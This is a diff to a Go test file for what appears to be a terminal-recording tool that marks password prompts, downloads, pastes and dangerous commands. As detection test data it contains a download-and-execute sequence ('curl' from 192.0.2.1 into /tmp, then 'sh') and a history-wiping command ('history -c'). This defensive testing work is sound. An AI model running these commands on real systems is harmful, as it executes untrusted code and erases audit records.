@@ -65,7 +65,8 @@ func TestMarkers_kinds(t *testing.T) {
 			nil, typing("id", ""),
 		},
 		{
-			MarkPassword, "waits for a password", []recording.Frame{out(0, ps1), out(sec, "su\r\n"), out(2*sec, "Password: "), out(5*sec, "\r\n")},
+			MarkPassword, "waits for a password",
+			[]recording.Frame{out(0, ps1), out(sec, "su\r\n"), out(2*sec, "Password: "), out(5*sec, "\r\n")},
 			[]string{"Password:"},
 			[]recording.Frame{out(0, ps1), out(sec, "su\r\n"), out(2*sec, "Password: \r\n"), out(5*sec, "\r\n")},
 		},
@@ -81,17 +82,20 @@ func TestMarkers_kinds(t *testing.T) {
 		{MarkDownload, "under another name", typing("curl -o /tmp/i http://192.0.2.1/x", "", "sh /tmp/i", ""), []string{"sh /tmp/i"}, typing("curl -o /tmp/i http://192.0.2.1/x", "", "ls /tmp/i", "")},
 		{MarkDanger, "by the classifier", typing("history -c", ""), []string{"history wiped: history -c"}, typing("history 5", "")},
 		{
-			MarkPaste, "lines at once", []recording.Frame{out(0, ps1), out(sec, "id\r\n"), out(sec+5*time.Millisecond, "alice\r\n"+ps1), out(sec+9*time.Millisecond, "pwd\r\n"), out(2*sec, "/\r\n"+ps1)},
+			MarkPaste, "lines at once",
+			[]recording.Frame{out(0, ps1), out(sec, "id\r\n"), out(sec+5*time.Millisecond, "alice\r\n"+ps1), out(sec+9*time.Millisecond, "pwd\r\n"), out(2*sec, "/\r\n"+ps1)},
 			[]string{"2 lines at once: id"},
 			[]recording.Frame{out(0, ps1), out(sec, "id\r\n"), out(2*sec, "alice\r\n"+ps1), out(3*sec, "pwd\r\n"), out(4*sec, "/\r\n"+ps1)},
 		},
 		{
-			MarkPaste, "a long line at once", []recording.Frame{out(0, ps1), out(sec, "echo "+strings.Repeat("a", 30)+"\r\n"), out(2*sec, ps1)},
+			MarkPaste, "a long line at once",
+			[]recording.Frame{out(0, ps1), out(sec, "echo "+strings.Repeat("a", 30)+"\r\n"), out(2*sec, ps1)},
 			[]string{"a line of 35 characters at once: echo " + strings.Repeat("a", 30)},
 			typing("echo "+strings.Repeat("a", 30), ""),
 		},
 		{
-			MarkPaste, "shown as pasted", []recording.Frame{out(0, ps1), out(sec, "\x1b[7mcat x\x1b[27m"), out(3*sec, "\x1b[5Dcat x\r\n"), out(4*sec, ps1)},
+			MarkPaste, "shown as pasted",
+			[]recording.Frame{out(0, ps1), out(sec, "\x1b[7mcat x\x1b[27m"), out(3*sec, "\x1b[5Dcat x\r\n"), out(4*sec, ps1)},
 			[]string{"a line of 5 characters at once: cat x"},
 			[]recording.Frame{out(0, ps1), out(sec, "cat x"), out(3*sec, "\x1b[5Dcat x\r\n"), out(4*sec, ps1)},
 		},
